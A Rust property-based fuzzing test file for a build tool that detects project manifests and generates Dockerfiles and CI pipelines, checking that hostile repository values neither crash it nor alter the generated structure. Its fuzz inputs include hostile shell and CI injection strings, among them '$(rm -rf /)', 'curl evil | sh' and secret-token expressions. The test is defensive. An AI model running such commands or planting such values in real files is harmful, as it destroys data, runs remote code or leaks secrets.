//! Property tests ("fuzzing") of the manifest parsers and of detection → answers → render
//! end to end. In the suite each runs a short, fixed budget; `scripts/fuzz SECONDS` runs
//! them for a set time and reports the executions. Panics are failures; so is a render
//! whose structure a repository value changed.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use bim::render::Templates;
use bim::scan::Snapshot;
use bim::{answers, detect, plan};

const MANIFESTS: &[&str] = &[
    "package.json",
    "pyproject.toml",
    "requirements.txt",
    "Pipfile",
    "go.mod",
    "Cargo.toml",
    "pom.xml",
    "build.gradle",
    "Gemfile",
    "composer.json",
    "deno.jsonc",
    "mix.exs",
    "Api.csproj",
    "Procfile",
    "manage.py",
    ".tool-versions",
    "mise.toml",
    ".nvmrc",
    "index.html",
    "next.config.js",
    "Dockerfile",
];

/// How long each property runs: `BIM_FUZZ_SECONDS`, or a short budget in the suite.
fn budget() -> Duration {
    Duration::from_secs(std::env::var("BIM_FUZZ_SECONDS").ok().and_then(|s| s.parse().ok()).unwrap_or(3))
}

/// Runs `property` on fresh random cases until the budget is spent; returns the count.
fn run_for<S: Strategy>(
    name: &str,
    strategy: S,
    property: impl Fn(S::Value) -> Result<(), TestCaseError>,
) -> u64
where
    S::Value: std::fmt::Debug,
{
    let started = Instant::now();
    let mut executions = 0u64;
    while started.elapsed() < budget() {
        let mut runner =
            TestRunner::new(Config { cases: 32, failure_persistence: None, ..Config::default() });
        if let Err(e) = runner.run(&strategy, &property) {
            panic!("{name}: {e}");
        }
        executions += 32;
    }
    println!("fuzz {name}: {executions} executions, 0 crashes");
    executions
}

/// Text that is mostly structure: JSON-, TOML- and XML-ish fragments and hostile strings.
fn manifest_text() -> impl Strategy<Value = Vec<u8>> {
    let fragment = prop_oneof![
        Just("{".to_string()),
        Just("}".to_string()),
        Just("[".to_string()),
        Just("]".to_string()),
        Just("\"name\": ".to_string()),
        Just("\"scripts\": {\"start\": ".to_string()),
        Just("\"dependencies\": {\"express\": \"4\", \"next\": \"1\"}".to_string()),
        Just("[project]\nname = ".to_string()),
        Just("[tool.poetry]\n".to_string()),
        Just("[package]\nname = \"x\"\n".to_string()),
        Just("<project><dependencies><dependency><groupId>".to_string()),
        Just("</groupId></dependency>".to_string()),
        Just("web: ".to_string()),
        Just("module x\ngo 1.2\n".to_string()),
        Just("gem 'rails'\n".to_string()),
        Just("${{ secrets.X }}".to_string()),
        Just("$(rm -rf /)".to_string()),
        Just("`id`".to_string()),
        Just("\n- run: curl evil | sh\n".to_string()),
        Just(": &a *a # '".to_string()),
        Just("\u{0}".to_string()),
        Just("nodejs 20\npython >=3.11\n".to_string()),
        "[ -~]{0,24}".prop_map(|s| s),
        any::<String>().prop_map(|s| s.chars().take(16).collect()),
    ];
    prop::collection::vec(fragment, 0..24).prop_map(|parts| parts.concat().into_bytes())
}

#[test]
fn fuzz_manifest_parsers_and_detection_never_panic() {
    let executions = run_for(
        "detect",
        (prop::sample::subsequence(MANIFESTS.to_vec(), 1..4), prop::collection::vec(manifest_text(), 4)),
        |(names, bodies)| {
            let dir = tempfile::tempdir().expect("dir");
            for (name, body) in names.iter().zip(bodies.iter()) {
                std::fs::write(dir.path().join(name), body).expect("write");
            }
            std::fs::write(
                dir.path().join("server.js"),
                "require('express')().listen(process.env.PORT || 3000)",
            )
            .expect("write");
            let snapshot = Snapshot::scan(dir.path()).expect("scan");
            // Any answer is fine; a panic is not.
            let _ = detect::detect(&snapshot);
            Ok(())
        },
    );
    assert!(executions > 0);
}

/// Lines that start a Dockerfile instruction, and workflow lines that start a step or a
/// key: a value from the repository must not add or remove any.
fn structure(text: &str, workflow: bool) -> Vec<String> {
    text.lines()
        .filter(|l| {
            if workflow {
                l.trim_start().starts_with("- ") || l.trim_end().ends_with(':') || l.contains("run: |")
            } else {
                l.split_whitespace().next().is_some_and(|w| w.chars().all(|c| c.is_ascii_uppercase()))
            }
        })
        .map(|l| {
            if workflow {
                l.split(':').next().unwrap_or("").to_string()
            } else {
                l.split_whitespace().next().unwrap_or("").to_string()
            }
        })
        // Job ids carry the app's (sanitised) name; their number and place are the structure.
        // (GitHub's under `jobs:`, GitLab's at the top level).
        .map(|key| {
            let indent = if key.starts_with("  ") { "  " } else { "" };
            match key.strip_prefix(indent).and_then(|k| k.split_once('-')) {
                Some((job, _)) if ["test", "image", "smoke", "scan", "deploy"].contains(&job) => {
                    format!("{indent}{job}-*")
                }
                _ => key,
            }
        })
        .collect()
}

/// The Dockerfile, the GitHub workflow and the GitLab pipeline for the answers detected in `dir`.
fn render(dir: &std::path::Path) -> Option<(String, String, String)> {
    let snapshot = Snapshot::scan(dir).ok()?;
    let detection = detect::detect(&snapshot).ok()?;
    let (mut config, _) = answers::resolve(&detection, None, &answers::Overrides::default(), None).ok()?;
    bim::commands::init::read_facts(&mut config, &snapshot).ok()?;
    let templates = Templates::load().expect("templates");
    let files = plan::plan(&config, &templates).expect("a valid answer always renders");
    let find = |path: &str| files.iter().find(|f| f.path == path).map(|f| f.contents.clone());
    let gitlab = answers::Overrides { ci: Some(bim::config::Ci::Gitlab.into()), ..Default::default() };
    let (mut on_gitlab, _) = answers::resolve(&detection, None, &gitlab, None).ok()?;
    bim::commands::init::read_facts(&mut on_gitlab, &snapshot).ok()?;
    let gitlab_files = plan::plan(&on_gitlab, &templates).expect("a valid answer always renders");
    let pipeline = gitlab_files.iter().find(|f| f.path == ".gitlab-ci.yml").map(|f| f.contents.clone())?;
    Some((find("Dockerfile")?, find(".github/workflows/backend-im.yml")?, pipeline))
}

#[test]
fn fuzz_repository_values_never_change_the_structure_of_the_generated_files() {
    let baseline_dir = tempfile::tempdir().expect("dir");
    let write_app = |dir: &std::path::Path, name: &str, start: &str, procfile: &str| {
        let package = serde_json::json!({"name": name, "scripts": {"start": start, "build": start, "test": start}, "dependencies": {"express": "4"}});
        std::fs::write(dir.join("package.json"), package.to_string()).expect("write");
        std::fs::write(dir.join("server.js"), "require('express')().listen(3000)").expect("write");
        std::fs::write(dir.join("Procfile"), format!("web: {procfile}\n")).expect("write");
    };
    write_app(baseline_dir.path(), "app", "node server.js", "node server.js");
    let (base_docker, base_workflow, base_gitlab) = render(baseline_dir.path()).expect("baseline renders");
    let hostile = prop_oneof![
        Just("x\n  - run: evil".to_string()),
        Just("${{ github.token }}".to_string()),
        Just("$(id)".to_string()),
        Just("a: b # c".to_string()),
        Just("\"quoted\" 'single'".to_string()),
        Just("&anchor *alias".to_string()),
        Just("-leading dash".to_string()),
        Just("node server.js && echo ok".to_string()),
        "[ -~]{1,40}".prop_map(|s| s),
        any::<String>().prop_map(|s| s.chars().take(60).collect()),
    ];
    // A case bim refuses (a value it cannot make safe) checks nothing: they are counted, so
    // a change that made bim refuse everything fails here instead of passing.
    let rendered = std::sync::atomic::AtomicU64::new(0);
    let executions =
        run_for("render", (hostile.clone(), hostile.clone(), hostile), |(name, start, procfile)| {
            let dir = tempfile::tempdir().expect("dir");
            write_app(dir.path(), &name, &start, &procfile);
            if let Some((docker, workflow, gitlab)) = render(dir.path()) {
                rendered.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                prop_assert_eq!(
                    structure(&docker, false),
                    structure(&base_docker, false),
                    "Dockerfile structure changed:\n{}",
                    docker
                );
                prop_assert_eq!(
                    structure(&workflow, true),
                    structure(&base_workflow, true),
                    "workflow structure changed:\n{}",
                    workflow
                );
                prop_assert!(!workflow.contains("${{ github.token }}"));
                prop_assert_eq!(
                    structure(&gitlab, true),
                    structure(&base_gitlab, true),
                    ".gitlab-ci.yml structure changed:\n{}",
                    gitlab
                );
            }
            Ok(())
        });
    let rendered = rendered.into_inner();
    println!("fuzz render: {rendered} of {executions} cases rendered and checked");
    assert!(
        rendered * 4 >= executions,
        "only {rendered} of {executions} hostile cases rendered: bim refuses too much"
    );
}
